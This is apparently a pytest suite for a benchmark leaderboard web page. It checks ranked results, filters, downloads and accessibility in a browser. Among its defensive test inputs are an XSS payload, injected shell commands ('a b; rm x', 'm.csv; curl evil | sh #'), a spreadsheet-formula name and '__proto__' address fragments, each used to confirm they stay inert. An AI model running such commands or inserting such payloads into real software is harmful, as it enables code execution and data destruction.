"""The leaderboard page: its content against the records, and what a reader does with it, in Chromium."""

from __future__ import annotations

import csv
import io
import json
import re
import shlex
import shutil
from pathlib import Path

import pytest
from browsing import DESK, PHONE, opened

from benchmarks.speed import made_up_results
from cellfeat import CellfeatError, leaderboard
from cellfeat.ranking import read_rankings

HOSTILE = "<img src=x onerror=alert(1)>&'\"</script>"
NAMES = ("good", "middle", HOSTILE)


@pytest.fixture(scope="module")
def results(tmp_path_factory) -> Path:
    """Three rows, two classifiers, three laboratories, two seeds; the same rows again without adaptation."""
    folder = tmp_path_factory.mktemp("made-up")
    made_up_results.write(folder / "own", (60, 80, 120), seeds=2, names=NAMES)
    return folder / "own"


@pytest.fixture(scope="module")
def site(results, tmp_path_factory) -> Path:
    path, records, tables = leaderboard.write_site([results], tmp_path_factory.mktemp("site"), f"Board {HOSTILE}")
    assert (records, tables) == (3 * 2 * 6 * 2, 1)
    return path


@pytest.fixture
def page(browser, site):
    with opened(browser, site) as found:
        yield found
        assert (found.problems, found.requests) == ([], [])


def names(page) -> list[str]:
    return page.locator("tr.row th.name button").all_text_contents()


def choose(page, label: str, value: str) -> None:
    page.get_by_role("combobox", name=label, exact=True).select_option(value)


def data_of(site: Path) -> dict:
    return json.loads(re.search(r'id="data">(.*?)</script>', site.read_text(encoding="utf-8"))[1])


def test_a_command_to_copy_runs_nothing_else(results, tmp_path):
    shutil.copytree(results, tmp_path / "a b; rm x")
    edited(tmp_path / "a b; rm x", lambda record: record["dataset"].update(manifest="m.csv; curl evil | sh #"))
    method = leaderboard.content([tmp_path / "a b; rm x"])["boards"][0]["methods"][0]
    words = shlex.split(method["verify"])
    assert words[:4] == ["cellfeat", "bench", "verify", "a b; rm x"]
    assert words[5:] == ["--data", "m.csv; curl evil | sh #"]
    assert shlex.split(method["run"])[-1] == "m.csv; curl evil | sh #"


def test_in_few_shot_a_row_with_fewer_cells_changes_no_other(results, site, tmp_path):
    import pyarrow.parquet as pq

    shutil.copytree(results, tmp_path / "own")
    made_up_results.write(tmp_path / "theirs", (60, 80, 120), seeds=2, names=["few"], classifiers=["lr"])
    path = tmp_path / "theirs" / "predictions" / "0.parquet"
    table = pq.read_table(path)
    pq.write_table(table.filter([int(id[-5:]) % 3 > 0 for id in table["id"].to_pylist()]), path)
    for folder in ("own", "theirs"):
        edited(tmp_path / folder, lambda record: record.update(shots=5))
    [board] = leaderboard.content([tmp_path / "own", tmp_path / "theirs"])["boards"]
    alone = data_of(site)["boards"][0]["methods"]
    assert [one["scores"] for one in board["methods"][:6]] == [one["scores"] for one in alone]
    assert board["methods"][6]["remarks"]


def edited(folder: Path, change) -> None:
    """Every record of a folder changed by a function."""
    path = folder / "records.jsonl"
    lines = [json.loads(line) for line in path.read_text().splitlines()]
    path.write_text("".join(json.dumps(change(line) or line) + "\n" for line in lines))


# Content


def test_the_page_says_what_the_list_says(results, site):
    [board] = data_of(site)["boards"]
    [ranking], _ = read_rankings(results)
    [view] = [view for view in board["views"] if view["source"] is view["target"] is None]
    table = view["tables"]["balanced_accuracy"]
    methods = [board["methods"][i] for i in table["method"]]
    listed = [line[:3] for line in ranking.lines()[: len(methods)]]
    assert [name for _, name, _ in listed] == [f"{one['row']}/{one['classifier']}" for one in methods]
    assert [group for group, _, _ in listed] == [str(group) for group in table["group"]] == list("112223")
    for place, (_, _, figures) in enumerate(listed):
        shown = [table[key][place] / 100 for key in ("mean", "low", "high")]
        assert [float(text) for text in re.findall(r"[\d.]+", figures)] == pytest.approx(shown, abs=0.06)


def test_every_choice_of_source_and_target_has_its_table(site):
    [board] = data_of(site)["boards"]
    choices = {(view["source"], view["target"]): view for view in board["views"]}
    assert len(choices) == 1 + 3 + 3 + 6
    single = choices["lab-a", "lab-b"]
    [place] = single["transfers"]
    means = dict(zip(single["tables"]["accuracy"]["method"], single["tables"]["accuracy"]["mean"], strict=True))
    for number, method in enumerate(board["methods"]):
        assert means[number] == method["scores"]["accuracy"][place]


def test_details_are_means_over_the_seeds(results, site):
    [board] = data_of(site)["boards"]
    method = board["methods"][0]
    records = [json.loads(line) for line in (results / "records.jsonl").read_text().splitlines()]
    transfer = board["transfers"][0]
    own = [
        record
        for record in records
        if (record["row"], record["classifier"]) == (method["row"], method["classifier"])
        and (record["source"], record["target"]) == (transfer["source"], transfer["target"])
    ]
    details = method["details"][0]
    assert details["ids"] == [record["id"] for record in own]
    for i, name in enumerate(board["classes"]):
        expected = sum(record["recall"][name] for record in own) / 2
        assert details["recall"][i] == round(10_000 * expected)
        assert details["confusion"][i][i] == (own[0]["confusion"][i][i] + own[1]["confusion"][i][i]) / 2


def test_equal_records_give_an_equal_page_and_other_ones_another_digest(results, site, tmp_path):
    again, _, _ = leaderboard.write_site([results / "records.jsonl"], tmp_path, f"Board {HOSTILE}")
    assert again.read_bytes() == site.read_bytes()
    before = leaderboard.built_from([results])
    made_up_results.write(tmp_path / "other", (60, 80, 120), seeds=2, names=NAMES, seed=1)
    assert leaderboard.built_from([tmp_path / "other"]) != before
    assert before in site.read_text(encoding="utf-8")


def test_rows_of_several_folders_stand_in_one_table_and_those_of_the_first_keep_their_names(results, tmp_path):
    for folder in ("x/theirs", "y/theirs"):
        made_up_results.write(tmp_path / folder, (60, 80, 120), seeds=2, names=["good"], classifiers=["lr"])
    [board] = leaderboard.content([results, tmp_path / "x" / "theirs", tmp_path / "y" / "theirs"])["boards"]
    assert board["name"] == "transfers"
    assert [method["submission"] for method in board["methods"]] == [""] * 6 + ["theirs", "theirs-2"]


def test_folders_that_know_a_cell_otherwise_cannot_stand_in_one_table(results, tmp_path):
    made_up_results.write(tmp_path / "theirs", (60, 80, 120), seeds=2, names=["good"], seed=9)
    with pytest.raises(
        CellfeatError, match=r"disagree about the label of cell lab-\w-\d+: .* cannot stand in one table"
    ):
        leaderboard.content([results, tmp_path / "theirs"])


def test_results_of_other_data_or_settings_stand_in_tables_of_their_own(results, tmp_path):
    made_up_results.write(tmp_path / "theirs", (60, 80, 120), seeds=2, names=["good"])
    edited(tmp_path / "theirs", lambda record: record["dataset"].update(digest="1" * 64))
    boards = leaderboard.content([results, tmp_path / "theirs"])["boards"]
    assert [board["name"] for board in boards] == ["transfers", "transfers (11111111)"]
    edited(tmp_path / "theirs", lambda record: record["dataset"].update(digest="0" * 64))
    others = []
    for folds in (3, 4):
        edited(tmp_path / "theirs", lambda record, folds=folds: record["recipe"]["protocol"].update(folds=folds))
        shutil.copytree(tmp_path / "theirs", tmp_path / f"folds-{folds}")
        others.append(tmp_path / f"folds-{folds}")
    boards = leaderboard.content([results, *others])["boards"]
    names = [board["name"] for board in boards]
    assert names == ["transfers", "transfers (00000000)", "transfers (00000000) · 2"], "each can be chosen"


def test_a_row_that_did_not_answer_every_cell_is_not_ranked_and_changes_no_other(results, site, tmp_path):
    import pyarrow.parquet as pq

    made_up_results.write(tmp_path / "theirs", (60, 80, 120), seeds=2, names=["few"], classifiers=["lr"])
    path = tmp_path / "theirs" / "predictions" / "0.parquet"
    table = pq.read_table(path)
    pq.write_table(table.filter([id != "lab-b-00007" for id in table["id"].to_pylist()]), path)
    [board] = leaderboard.content([results, tmp_path / "theirs"])["boards"]
    [few] = [i for i, method in enumerate(board["methods"]) if method["row"] == "few"]
    assert few == 6
    assert board["methods"][few]["remarks"]["lab-a → lab-b"] == "1 of 80 cells were not answered"
    whole = next(view for view in board["views"] if view["source"] is view["target"] is None)
    places = dict(zip(whole["tables"]["accuracy"]["method"], whole["tables"]["accuracy"]["group"], strict=True))
    assert places[few] == 0
    alone = data_of(site)["boards"][0]["methods"]
    assert [one["scores"] for one in board["methods"][:6]] == [one["scores"] for one in alone]


@pytest.mark.parametrize(
    ("path", "text"),
    [("nowhere", r"there is no .*nowhere; name results folders"), ("file.txt", "is no results folder and no records")],
)
def test_what_is_no_results_folder_is_told(tmp_path, path, text):
    (tmp_path / "file.txt").write_text("")
    with pytest.raises(CellfeatError, match=text):
        leaderboard.write_site([tmp_path / path], tmp_path / "site")
    assert not (tmp_path / "site").exists()


# In a browser


def test_groups_are_shown_as_groups_and_sorting_goes_both_ways_and_back(page):
    table = page.page
    assert table.locator("td.group").all_text_contents() == list("112223")
    order = names(table)
    assert {name.split("/")[0] for name in order[:2]} == {"good"}
    heading = table.get_by_role("button", name="row/classifier")
    heading.click()
    assert names(table) == sorted(order, key=str.lower)
    assert table.locator("th[aria-sort=ascending]").count() == 1
    heading.click()
    assert names(table) == sorted(order, key=str.lower, reverse=True)
    heading.click()
    assert names(table) == order
    table.get_by_role("button", name=re.compile("lab-a → lab-b")).click()
    values = [float(text) for text in table.locator("tr.row > :nth-child(5)").all_text_contents()]
    assert values == sorted(values, reverse=True)


def test_filters_leave_rows_out_and_never_renumber_groups(page):
    table = page.page
    choose(table, "Classifier", "lr")
    assert len(names(table)) == 3
    assert all(name.endswith("/lr") for name in names(table))
    table.get_by_label("Search").fill("middle")
    assert names(table) == ["middle/lr"]
    assert table.locator("td.group").all_text_contents() == ["2"]
    assert table.get_by_role("status").text_content() == "1 of 6 rows"
    table.get_by_label("Search").fill("nothing like it")
    assert names(table) == []


def test_a_source_and_a_target_have_figures_of_their_own(page, site):
    table = page.page
    choose(table, "Source", "lab-b")
    assert "Mean of 2 transfers" in table.locator("#explained").text_content()
    choose(table, "Target", "lab-a")
    assert "One transfer" in table.locator("#explained").text_content()
    [board] = data_of(site)["boards"]
    [view] = [view for view in board["views"] if (view["source"], view["target"]) == ("lab-b", "lab-a")]
    shown = table.locator("td.mean").first.text_content()
    means = view["tables"]["balanced_accuracy"]["mean"]
    assert shown.startswith(f"{means[0] / 100:.1f} [")
    choose(table, "Metric", "macro_f1")
    assert table.locator("td.mean").first.text_content() != shown


def test_a_row_unfolds_to_what_one_needs_to_make_it_again(page):
    table = page.page
    table.get_by_role("button", name="good/lr").click()
    panel = table.locator("tr.unfolded")
    text = panel.text_content()
    assert "cellfeat bench verify" in text
    assert "cellfeat run --recipe recipe.yaml" in text
    assert "- name: good" in text
    assert "- 1\n  - 2" in text, "the seeds of all fits"
    assert "colour (cellfeat" in text
    assert panel.locator("table").count() == 1 + 6, "recall, and a confusion matrix of every transfer"
    assert table.locator("button[aria-expanded=true]").count() == 1
    table.get_by_role("button", name="good/lr").press("Enter")
    assert table.locator("tr.unfolded").count() == 0


def test_an_address_opens_the_row_and_the_view_that_it_names(browser, site):
    fragment = "#metric=accuracy&classifier=lr&sort=name&row=middle%2Flr"
    with opened(browser, site, fragment, size=(1280, 300)) as found:
        assert found.page.get_by_label("Metric").input_value() == "accuracy"
        assert found.page.locator("tr.unfolded").count() == 1
        box = found.page.locator("tr.row[data-row='middle/lr']").bounding_box()
        assert 0 <= box["y"] < 300
        assert found.page.evaluate("location.hash") == f"#protocol=transfers&adapt=test&{fragment[1:]}"
        found.page.evaluate("location.hash = '#view=matrix'")
        found.page.wait_for_selector("table.matrix")
        assert found.problems == []
    with opened(browser, site, "#protocol=none-such&source=x&metric=y&view=z&sort=q&row=n") as found:
        assert len(names(found.page)) == 6
        assert found.problems == []


def test_downloads_hold_what_is_shown(page):
    table = page.page
    choose(table, "Classifier", "lr")
    table.get_by_role("button", name="row/classifier").click()
    files = {}
    for kind in ("CSV", "JSON"):
        with table.expect_download() as waiting:
            table.get_by_role("button", name=kind).click()
        assert waiting.value.suggested_filename == f"transfers-test.{kind.lower()}"
        files[kind] = Path(waiting.value.path()).read_text(encoding="utf-8")
    rows = json.loads(files["JSON"])
    assert [f"{row['row']}/{row['classifier']}" for row in rows] == names(table)
    lines = list(csv.DictReader(io.StringIO(files["CSV"])))
    assert [line["row"] for line in lines] == [row["row"] for row in rows]
    assert [float(line["mean"]) for line in lines] == [row["mean"] for row in rows]
    assert float(lines[0]["lab-a → lab-b"]) == rows[0]["lab-a → lab-b"]


def test_a_spreadsheet_runs_no_name_as_a_formula(browser, tmp_path):
    made_up_results.write(tmp_path / "r", (30, 40), seeds=1, names=["=1+1"], classifiers=["lr"])
    site, _, _ = leaderboard.write_site([tmp_path / "r"], tmp_path / "site")
    with opened(browser, site) as found:
        with found.page.expect_download() as waiting:
            found.page.get_by_role("button", name="CSV").click()
        [line] = csv.DictReader(io.StringIO(Path(waiting.value.path()).read_text(encoding="utf-8")))
    assert line["row"] == "'=1+1"


def test_hostile_names_stay_names(page):
    assert f"{HOSTILE}/lr" in names(page.page)
    page.page.get_by_role("button", name=f"{HOSTILE}/lr").click()
    for view in ("Source × target", "Time and quality"):
        page.page.get_by_role("button", name=view).click()
    assert page.page.locator("img").count() == 0


def test_skipping_to_the_content_loses_nothing(browser, site):
    with opened(browser, site, "#metric=accuracy&classifier=lr&row=good%2Flr") as found:
        found.page.keyboard.press("Tab")
        found.page.keyboard.press("Enter")
        found.page.wait_for_timeout(100)
        assert found.page.locator("tr.unfolded").count() == 1
        assert "row=good%2Flr" in found.page.evaluate("location.hash")
        assert found.problems == []


@pytest.mark.parametrize(
    "fragment",
    ["#view=matrix&row=good%2Flr", "#view=time&row=good%2Flr", "#sort=__proto__", "#main", "#search=constructor"],
)
def test_an_odd_address_breaks_nothing(browser, site, fragment):
    with opened(browser, site, fragment) as found:
        assert found.problems == []
        found.page.get_by_role("button", name="Table", exact=True).click()
        assert len(names(found.page)) == (0 if "search" in fragment else 6)
        assert (found.page.get_by_text("No row matches").count() == 1) == ("search" in fragment)


def test_a_column_that_goes_takes_its_order_with_it(page):
    table = page.page
    table.get_by_role("button", name=re.compile("lab-c → lab-b")).click()
    assert "sort=" in table.evaluate("location.hash")
    choose(table, "Target", "lab-a")
    assert "sort=" not in table.evaluate("location.hash")
    assert table.locator("td.group").all_text_contents() == sorted(table.locator("td.group").all_text_contents())


def test_more_rows_are_reached_by_keyboard_and_every_row_has_a_heading(browser, tmp_path):
    made_up_results.write(tmp_path / "r", (30, 40), rows=43, seeds=1, classifiers=["lr"])
    site, _, _ = leaderboard.write_site([tmp_path / "r"], tmp_path / "site")
    with opened(browser, site) as found:
        found.page.get_by_role("button", name="Show 3 more").press("Enter")
        assert len(names(found.page)) == found.page.locator("tr.row th[scope=row]").count() == 43
        assert found.page.evaluate("document.activeElement.closest('tr').rowIndex") == 41


def test_what_is_printed_has_its_names_and_headings(page):
    page.page.emulate_media(media="print")
    assert page.page.get_by_text("good/lr").is_visible()
    assert page.page.get_by_text("row/classifier").is_visible()
    assert not page.page.locator("#controls").is_visible()


@pytest.mark.parametrize("theme", ["light", "dark"])
@pytest.mark.parametrize("size", [DESK, PHONE], ids=["desk", "phone"])
def test_every_view_is_accessible_and_fits_the_window(browser, site, theme, size):
    with opened(browser, site, "#row=good%2Flr", size, theme) as found:
        for view in ("Table", "Source × target", "Time and quality"):
            found.page.get_by_role("button", name=view).click()
            assert found.findings() == [], view
            assert found.sideways() <= 0, view
        assert (found.problems, found.requests) == ([], [])


def test_the_keyboard_reaches_sorting_and_unfolding_and_keeps_its_place(page):
    table = page.page
    table.get_by_role("button", name="row/classifier").focus()
    table.keyboard.press("Enter")
    assert table.evaluate("document.activeElement.dataset.sort") == "name"
    table.locator("tr.row th.name button").first.focus()
    table.keyboard.press("Enter")
    assert table.evaluate("document.activeElement.getAttribute('aria-expanded')") == "true"


def test_the_matrix_shows_the_best_or_one_row(page, site):
    table = page.page
    table.get_by_role("button", name="Source × target").click()
    cells = table.locator("table.matrix td.heat")
    assert cells.count() == 6
    assert "good/" in cells.first.text_content()
    choose(table, "Row", "middle/lr")
    assert "row=middle%2Flr" in table.evaluate("location.hash")
    [board] = data_of(site)["boards"]
    [middle] = [one for one in board["methods"] if (one["row"], one["classifier"]) == ("middle", "lr")]
    places = [f"{one['source']} → {one['target']}" for one in board["transfers"]]
    expected = middle["scores"]["balanced_accuracy"][places.index("lab-a → lab-b")]
    assert cells.first.locator("strong").text_content() == f"{expected / 100:.1f}"
    choose(table, "Source", "lab-b")
    assert cells.count() == 2


def test_time_and_quality_has_a_dot_for_every_row(page):
    page.page.get_by_role("button", name="Time and quality").click()
    assert page.page.locator(".chart .dot").count() == 6
    titles = page.page.locator(".chart g title").all_text_contents()
    assert all(re.search(r"/(lr|svm-linear): \d\d\.\d % \[\d", title) for title in titles)


def test_many_rows_come_in_portions(browser, tmp_path):
    made_up_results.write(tmp_path / "r", (30, 40), rows=120, seeds=1, classifiers=["lr"])
    site, _, _ = leaderboard.write_site([tmp_path / "r"], tmp_path / "site")
    with opened(browser, site) as found:
        assert len(names(found.page)) == 40
        found.page.get_by_role("button", name="Show 40 more of 120 rows").click()
        assert len(names(found.page)) == 80
    with opened(browser, site, "#row=row-119%2Flr") as found:
        assert found.page.locator("tr.unfolded").count() == 1


def test_weights_that_have_seen_a_target_are_marked_explained_and_filtered(browser, tmp_path):
    made_up_results.write(tmp_path / "r", (60, 80), seeds=1, names=["knows", "clean"], classifiers=["lr"], adapt="none")

    def seen(record):
        if record["row"] == "knows":
            record["weights_saw"] = ["lab-a (images)"]
            record["weights_saw_target"] = record["target"] == "lab-a"

    edited(tmp_path / "r", seen)
    site, _, _ = leaderboard.write_site([tmp_path / "r"], tmp_path / "site")
    with opened(browser, site) as found:
        text = found.page.locator("#explained").text_content()
        assert "Mean of 1 of 2 transfers" in text
        assert "Ranked by lab-a → lab-b" in text
        assert "†" in text
        assert found.page.locator("tr.row[data-row='knows/lr']").text_content().count("†") == 1
        choose(found.page, "Pretrained weights", "unseen")
        assert names(found.page) == ["clean/lr"]
        choose(found.page, "Pretrained weights", "")
        choose(found.page, "Target", "lab-a")
        assert found.page.locator("tr.row[data-row='knows/lr'] td.group").text_content() == "–"
        assert "its weights have seen the target" in found.page.locator("tr.unranked").text_content()
